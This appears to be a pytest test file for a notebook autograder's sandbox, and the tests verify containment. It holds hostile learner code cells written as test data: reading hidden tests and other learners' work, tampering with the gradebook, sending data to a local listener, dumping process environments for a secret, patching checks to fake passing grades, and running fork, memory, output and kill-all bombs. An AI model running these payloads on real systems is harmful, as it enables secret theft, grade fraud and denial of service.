"""Hostile submissions at course level: each attack fails, and every other learner's grades are
byte-identical to honest grading.

Per module: the demo course of one workshop (Module 1 workshop A, every demo city) is built and
released once; honest learners (a correct and a wrong Riverton submission, a correct Cedar Bend one)
are graded alone (the baseline); then the same course, with one more learner per attack (an honest
notebook plus one extra code cell, as a hostile learner would add), is graded in ONE
``autograde`` run, with a canary secret in the grader's environment and a listener on 127.0.0.1.
Each test reads its attacker's graded notebook (the attack cell prints what it reached), the
gradebook and the feedback pages. No test measures time.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import sqlite3
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from cohort_tools.core import paths
from cohort_tools.course.build import build_course, release
from cohort_tools.course.grade import GradeReport, autograde, copy_course
from cohort_tools.course.layout import Course, assignment_id
from cohort_tools.course.report import feedback
from cohort_tools.course.samples import sample_notebook, write_submission
from cohort_tools.notebooks import sandbox
from cohort_tools.notebooks.sandbox import SandboxLimits, uid_held
from tests.integration.conftest import (
    CANARY_ENV,
    processes_running_as,
    read_attempts,
    require_bwrap,
)

pytestmark = pytest.mark.slow

WORKSHOP = "m1_workshop_a_data_routines"
AID = assignment_id(WORKSHOP, "riverton")
OTHER_AID = assignment_id(WORKSHOP, "cedar-bend")
HONEST = {
    "riverton-honest-correct": (AID, "correct"),
    "riverton-honest-wrong": (AID, "wrong"),
    "cedar-bend-honest-correct": (OTHER_AID, "correct"),
}
MARK = "ATTACK-RESULT "


def grades(root: Path) -> dict[tuple[str, str, str], tuple[object, ...]]:
    """Every grade in the gradebook: (student, assignment, cell) -> scores, as stored."""
    with sqlite3.connect(root / "gradebook.db") as con:
        rows = con.execute(
            """select st.id, a.name, gc.name, g.auto_score, g.manual_score, g.extra_credit,
                      g.needs_manual_grade
               from grade g join base_cell gc on g.cell_id = gc.id
               join submitted_notebook sn on g.notebook_id = sn.id
               join submitted_assignment sa on sn.assignment_id = sa.id
               join student st on sa.student_id = st.id
               join assignment a on sa.assignment_id = a.id"""
        ).fetchall()
    return {r[:3]: tuple(r[3:]) for r in rows}


def of(table: dict[tuple[str, str, str], tuple[object, ...]], student: str) -> dict[object, object]:
    return {k: v for k, v in table.items() if k[0] == student}


def hidden_tests(course: Course) -> list[str]:
    """The lines of the source's hidden tests (long enough to be unmistakable)."""
    nb = nbformat.read(course.source(AID) / f"{WORKSHOP}.ipynb", as_version=4)
    lines, inside = [], False
    for cell in nb.cells:
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "END HIDDEN TESTS" in line:
                inside = False
            elif inside and len(line.strip()) > 20:
                lines.append(line.strip())
    assert lines, "the workshop has hidden tests"
    return lines


def with_cell(
    course: Course, kind: str, source: str, after: str | None = None
) -> nbformat.NotebookNode:
    """An honest learner's notebook with one extra code cell (at the end, or after a grade_id)."""
    nb = sample_notebook(course, AID, kind)
    cell = nbformat.v4.new_code_cell(source)  # type: ignore[no-untyped-call]
    at = len(nb.cells)
    if after is not None:
        at = 1 + next(
            i
            for i, c in enumerate(nb.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == after
        )
    nb.cells.insert(at, cell)
    return nb


def report_code(body: str) -> str:
    """An attack cell: ``body`` fills ``result``; the cell prints it as JSON after MARK."""
    return (
        f"import json\nresult = {{}}\n{body}\nprint({MARK!r} + json.dumps(result, default=str))\n"
    )


@dataclass
class Graded:
    course: Course
    baseline: dict[tuple[str, str, str], tuple[object, ...]]
    attacked: dict[tuple[str, str, str], tuple[object, ...]]
    baseline_answers: dict[str, bytes]
    report: GradeReport
    canary: str
    connections: list[bytes]
    hidden: list[str]
    feedback_pages: list[Path]
    written: list[Path]
    leftovers: list[int]

    def result(self, student: str) -> dict[str, object]:
        """What the student's attack cell printed (parsed), from its graded notebook."""
        nb = nbformat.read(self.course.autograded(student, AID) / f"{WORKSHOP}.ipynb", as_version=4)
        for cell in nb.cells:
            for out in cell.get("outputs", []):
                text = str(out.get("text", ""))
                if MARK in text:
                    line = next(ln for ln in text.splitlines() if ln.startswith(MARK))
                    found: dict[str, object] = json.loads(line[len(MARK) :])
                    return found
        raise AssertionError(f"{student}'s attack cell printed nothing")

    def graded_text(self, student: str) -> str:
        folder = self.course.autograded(student, AID)
        return "".join(p.read_text(errors="replace") for p in folder.rglob("*") if p.is_file())

    def score(self, student: str) -> float:
        return next(r.score for r in self.report.results if r.student == student)

    def line(self, student: str) -> str:
        return next(r.line() for r in self.report.results if r.student == student)


ATTACKS: dict[str, tuple[str, str, str | None]] = {}  # student -> (kind, cell source, after)


def attack(name: str, kind: str = "correct", after: str | None = None):  # type: ignore[no-untyped-def]
    def register(fn):  # type: ignore[no-untyped-def]
        ATTACKS[f"riverton-attack-{name}"] = (kind, fn, after)
        return fn

    return register


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Graded]:
    require_bwrap()
    work = tmp_path_factory.mktemp("hostile")
    workshops = work / "workshops"
    workshops.mkdir()
    shutil.copy(paths.workshops_dir() / f"{WORKSHOP}.md", workshops)
    root = work / "course"
    build_course(workshops_dir=workshops, course_dir=root, timeout=30)
    release(course_dir=root)
    course = Course(root)
    for student, (aid, kind) in HONEST.items():
        write_submission(course, student, aid, sample_notebook(course, aid, kind))
    honest_root = copy_course(root, work / "honest")
    honest_report = autograde(course_dir=honest_root, jobs=2)
    assert honest_report.ok, honest_report.summary()
    baseline = grades(honest_root)
    baseline_answers = {
        s: (Course(honest_root).autograded(s, a) / f"{WORKSHOP}.answers.json").read_bytes()
        for s, (a, _) in HONEST.items()
    }

    canary = "canary-" + secrets.token_hex(12)
    connections: list[bytes] = []
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    connections.append(conn.recv(100) or b"(connected)")
                except OSError:
                    connections.append(b"(connected)")

    acceptor = threading.Thread(target=accept, daemon=True)
    acceptor.start()
    targets = Targets(course, port, work)
    for student, (kind, make, after) in ATTACKS.items():
        write_submission(course, student, AID, with_cell(course, kind, make(targets), after))
    os.environ[CANARY_ENV] = canary
    allocated: list[range] = []
    allocate = sandbox._allocate_uids

    def recorded(base: int, count: int) -> int:
        start = allocate(base, count)
        allocated.append(range(start, start + count))
        return start

    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(sandbox, "_allocate_uids", recorded)
            report = autograde(course_dir=root, jobs=2)
    finally:
        os.environ.pop(CANARY_ENV, None)
        stop.set()
        acceptor.join()
        listener.close()
    leftovers = job_processes(allocated)
    pages = feedback(course_dir=root)
    yield Graded(
        course,
        baseline,
        grades(root),
        baseline_answers,
        report,
        canary,
        connections,
        hidden_tests(course),
        pages,
        targets.written(),
        leftovers,
    )


@dataclass
class Targets:
    """Paths an attack aims at (known to the test, as a learner could guess them)."""

    course: Course
    port: int
    work: Path

    @property
    def name(self) -> str:
        return "written-by-a-learner.txt"

    def outside(self) -> list[Path]:
        c = self.course.root
        return [
            c,
            c / "source",
            c / "autograded",
            c / "submitted",
            self.work,
            Path("/tmp"),
            paths.PACKAGE_DIR,
            paths.DEMO_DIR / "cities" / "riverton",
        ]

    def written(self) -> list[Path]:
        return [p / self.name for p in self.outside() if (p / self.name).exists()]


def _reads(paths_: list[str]) -> str:
    return read_attempts(paths_, into="result", limit=400)


@attack("source")
def _source(t: Targets) -> str:
    c = t.course
    return report_code(
        _reads(
            [
                str(c.source(AID) / f"{WORKSHOP}.ipynb"),
                str(c.source(AID)),
                str(c.release(AID) / f"{WORKSHOP}.ipynb"),
                str(c.root / "source"),
                str(paths.workshops_dir() / f"{WORKSHOP}.md"),
            ]
        )
        + """
walked = []
for top in ("/", os.getcwd()):
    for root, dirs, files in os.walk(top):
        if root.startswith(("/proc", "/sys", "/usr", "/dev")):
            dirs[:] = []
            continue
        walked += [os.path.join(root, f) for f in files if f.endswith((".ipynb", ".db", ".md"))]
result["walked"] = walked
result["globals"] = repr(sorted(globals()))
"""
    )


@attack("other-learner")
def _other_learner(t: Targets) -> str:
    c = t.course
    return report_code(
        _reads(
            [
                str(c.submitted("riverton-honest-correct", AID) / f"{WORKSHOP}.ipynb"),
                str(c.submitted("cedar-bend-honest-correct", OTHER_AID) / f"{WORKSHOP}.ipynb"),
                str(c.root / "submitted"),
                str(c.root / "autograded"),
            ]
        )
    )


@attack("other-city")
def _other_city(t: Targets) -> str:
    cities = paths.DEMO_DIR / "cities"
    return report_code(
        _reads(
            [
                str(cities / "cedar-bend" / "staff_survey.csv"),
                str(cities / "port-alder" / "staff_survey.csv"),
                str(cities),
                "/city/../cedar-bend/staff_survey.csv",
            ]
        )
        + 'result["own"] = sorted(os.listdir(_city.path))'  # its own city: the setup's
    )


@attack("gradebook")
def _gradebook(t: Targets) -> str:
    db = t.course.gradebook
    return report_code(
        f"""
import sqlite3
import sys
try:
    con = sqlite3.connect({str(db)!r})
    con.execute("update grade set manual_score = 100")
    con.commit()
    result["write"] = "written"
except Exception as exc:
    result["write"] = type(exc).__name__
try:
    with open({str(db)!r}, "rb") as f:
        result["read"] = "read " + str(len(f.read()))
except OSError as exc:
    result["read"] = type(exc).__name__
"""
    )


@attack("write-outside")
def _write_outside(t: Targets) -> str:
    places = [str(p) for p in t.outside()]
    return report_code(
        f"""
import os
for place in {places!r}:
    try:
        with open(os.path.join(place, {t.name!r}), "w") as f:
            f.write("x")
        result[place] = "written"
    except OSError as exc:
        result[place] = type(exc).__name__
"""
    )


@attack("network")
def _network(t: Targets) -> str:
    return report_code(
        f"""
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, {t.port}), timeout=3) as s:
            s.sendall(b"stolen")
        result[host] = "connected"
    except OSError as exc:
        result[host] = type(exc).__name__
"""
    )


@attack("environment")
def _environment(t: Targets) -> str:
    return report_code(
        """
import os
result["env"] = dict(os.environ)
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                seen.append(f.read().decode("utf-8", "replace"))
        except OSError:
            pass
result["proc"] = seen
"""
    )


@attack("patch", kind="wrong", after="setup")
def _patch(t: Targets) -> str:
    return report_code(
        """
import builtins, sys
from cohort_tools import nb as _nb
import cohort_tools.lessons.checkpoints as _cps

class Passing:
    def __init__(self, *args, **kwargs):
        pass
    def __enter__(self):
        return self
    def __exit__(self, *exc):
        return True  # swallow every failure
    def __getattr__(self, name):
        return lambda *args, **kwargs: True

for module in (_nb, _cps):
    for name in dir(module):
        if name.endswith("Checkpoint") or name == "Checkpoint":
            setattr(module, name, Passing)
builtins.AssertionError = type("Never", (Exception,), {})
_real_print = builtins.print
sys.settrace(lambda *a: None)
result["patched"] = True
"""
    )


@attack("fork-bomb")
def _fork_bomb(t: Targets) -> str:
    return report_code(
        """
import os
forks = 0
try:
    while forks < 100000:
        if os.fork() == 0:
            while True:
                pass
        forks += 1
except OSError as exc:
    result["stopped"] = type(exc).__name__
result["forks"] = forks
"""
    )


@attack("memory-bomb")
def _memory_bomb(t: Targets) -> str:
    return report_code(
        """
try:
    hog = bytearray(64 << 30)
except MemoryError:
    result["huge"] = "MemoryError"
hog = []
try:
    while True:
        hog.append(b"x" * (64 << 20))
except MemoryError:
    result["gradual"] = "MemoryError"
del hog
"""
    )


@attack("output")
def _output(t: Targets) -> str:
    return report_code(
        """
import sys
line = "x" * 999 + "\\n"
for _ in range(100_000):
    sys.stdout.write(line)
result["printed"] = "100 MB"
"""
    )


@attack("kill-parent")
def _kill_parent(t: Targets) -> str:
    return report_code(
        """
import os, signal
result["killed"] = []
for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid in (0, os.getpid()):
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        result["killed"].append(pid)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""
    )


# -- every attack: the others are graded exactly as without it --------------------------------------


def last_cell_outputs(g: Graded, student: str) -> list[dict[str, object]]:
    """The outputs of the attack cell (the last one) in the student's graded notebook."""
    nb = nbformat.read(g.course.autograded(student, AID) / f"{WORKSHOP}.ipynb", as_version=4)
    return [dict(o) for o in nb.cells[-1].get("outputs", [])]


def job_processes(allocated: list[range]) -> list[int]:
    """Processes still running as a job uid the grading had (its sandbox's slots), once no pool
    holds that uid: a test on another worker may be grading with job uids of its own meanwhile."""
    assert allocated, "the grading allocated no job uids"
    return processes_running_as(
        lambda uid: any(uid in block for block in allocated) and not uid_held(uid)
    )


def others_unchanged(g: Graded) -> None:
    for student in HONEST:
        assert of(g.attacked, student) == of(g.baseline, student), student
        aid = HONEST[student][0]
        answers = g.course.autograded(student, aid) / f"{WORKSHOP}.answers.json"
        assert answers.read_bytes() == g.baseline_answers[student], student


def test_the_batch_grades_every_attacker_and_every_honest_learner(graded: Graded) -> None:
    assert graded.report.ok, graded.report.summary()
    students = {r.student for r in graded.report.results}
    assert set(HONEST) | set(ATTACKS) <= students
    others_unchanged(graded)


def test_reading_the_source_release_solutions_or_hidden_tests_fails(graded: Graded) -> None:
    found = graded.result("riverton-attack-source")
    for key, value in found.items():
        if key not in ("walked", "globals"):
            assert not str(value).startswith(("read", "listed")), (key, value)
    # All it finds is its own job folder (its notebook, without checkpoints) and what is public
    # by design: the Python environment, the cohort_tools package and the programme (curriculum/).
    walked = found["walked"]
    assert isinstance(walked, list)
    public = (
        "/jobs/",
        sys.prefix,
        sys.base_prefix,
        str(paths.PACKAGE_DIR),
        str(paths.curriculum_dir()),
    )
    assert [w for w in walked if not str(w).startswith(public)] == []
    own = [str(w) for w in walked if str(w).startswith("/jobs/")]
    assert all(w.endswith(f"/{WORKSHOP}.ipynb") for w in own), own
    text = graded.graded_text("riverton-attack-source")
    for line in graded.hidden:
        assert line not in str(found), line
    assert "BEGIN SOLUTION" not in str(found)
    for page in graded.feedback_pages:
        html = page.read_text(errors="replace")
        for line in graded.hidden:
            assert line not in html, (page, line)
    assert MARK in text
    others_unchanged(graded)


def test_reading_another_learners_submission_fails(graded: Graded) -> None:
    found = graded.result("riverton-attack-other-learner")
    assert found and all(not str(v).startswith(("read", "listed")) for v in found.values()), found
    others_unchanged(graded)


def test_reading_another_citys_data_fails(graded: Graded) -> None:
    found = graded.result("riverton-attack-other-city")
    own = found.pop("own")
    assert "staff_survey.csv" in own  # its own city's data, read-only at the city parameter
    assert all(not str(v).startswith(("read", "listed")) for v in found.values()), found
    others_unchanged(graded)


def test_writing_or_opening_the_gradebook_fails(graded: Graded) -> None:
    found = graded.result("riverton-attack-gradebook")
    assert found["write"] != "written" and not str(found["read"]).startswith("read"), found
    scores = of(graded.attacked, "riverton-attack-gradebook")
    assert all(v[1] is None for v in scores.values()), scores  # no manual score appeared
    assert graded.score("riverton-attack-gradebook") == graded.score("riverton-honest-correct")
    others_unchanged(graded)


def test_writing_outside_its_folder_fails(graded: Graded) -> None:
    found = graded.result("riverton-attack-write-outside")
    assert "written" not in found.values(), found
    assert graded.written == []
    others_unchanged(graded)


def test_network_to_a_local_listener_fails(graded: Graded) -> None:
    found = graded.result("riverton-attack-network")
    assert "connected" not in found.values(), found
    assert graded.connections == []
    others_unchanged(graded)


def test_the_graders_secret_environment_is_not_readable(graded: Graded) -> None:
    found = graded.result("riverton-attack-environment")
    assert CANARY_ENV not in found["env"]  # type: ignore[operator]
    assert graded.canary not in graded.graded_text("riverton-attack-environment")
    for page in graded.feedback_pages:
        assert graded.canary not in page.read_text(errors="replace")
    others_unchanged(graded)


def test_patching_the_checkpoints_or_builtins_does_not_raise_the_score(graded: Graded) -> None:
    assert graded.result("riverton-attack-patch") == {"patched": True}  # it ran, in the sandbox
    wrong = of(graded.baseline, "riverton-honest-wrong")
    patched = of(graded.attacked, "riverton-attack-patch")
    assert {k[1:]: v for k, v in patched.items()} == {k[1:]: v for k, v in wrong.items()}
    assert graded.score("riverton-attack-patch") == graded.score("riverton-honest-wrong")
    others_unchanged(graded)


def test_a_fork_bomb_is_stopped_and_the_batch_goes_on(graded: Graded) -> None:
    result = next(r for r in graded.report.results if r.student == "riverton-attack-fork-bomb")
    assert result.status == "graded", result.line()
    # Capped at the process limit (fork fails), or stopped - its process dies, or on a busy
    # machine its cell reaches the time limit first: then its cell ends with an error, said in one
    # plain line. Either way no process of it is left.
    outputs = last_cell_outputs(graded, "riverton-attack-fork-bomb")
    if any(o.get("ename") for o in outputs):
        said = ("stopped at cell", "(the time limit), so it was stopped")
        assert any(s in note for note in result.notes for s in said), result.notes
    else:
        assert graded.result("riverton-attack-fork-bomb")["stopped"] == "BlockingIOError"
    assert graded.leftovers == []
    others_unchanged(graded)


def test_a_memory_bomb_gets_memory_errors_and_keeps_its_score(graded: Graded) -> None:
    found = graded.result("riverton-attack-memory-bomb")
    assert found == {"huge": "MemoryError", "gradual": "MemoryError"}
    assert graded.score("riverton-attack-memory-bomb") == graded.score("riverton-honest-correct")
    others_unchanged(graded)


def test_a_hundred_megabytes_of_output_are_cut_and_graded(graded: Graded) -> None:
    printed = [o for o in last_cell_outputs(graded, "riverton-attack-output") if o.get("text")]
    assert (
        0 < sum(len(str(o["text"]).encode()) for o in printed) <= SandboxLimits().cell_output_bytes
    )
    notebook = graded.course.autograded("riverton-attack-output", AID) / f"{WORKSHOP}.ipynb"
    assert notebook.stat().st_size < 4 << 20
    assert graded.score("riverton-attack-output") == graded.score("riverton-honest-correct")
    others_unchanged(graded)


def test_killing_its_parent_kills_nothing_but_itself(graded: Graded) -> None:
    result = next(r for r in graded.report.results if r.student == "riverton-attack-kill-parent")
    assert result.status == "graded", result.line()
    assert graded.result("riverton-attack-kill-parent")["killed"] == []
    assert graded.score("riverton-attack-kill-parent") == graded.score("riverton-honest-correct")
    others_unchanged(graded)
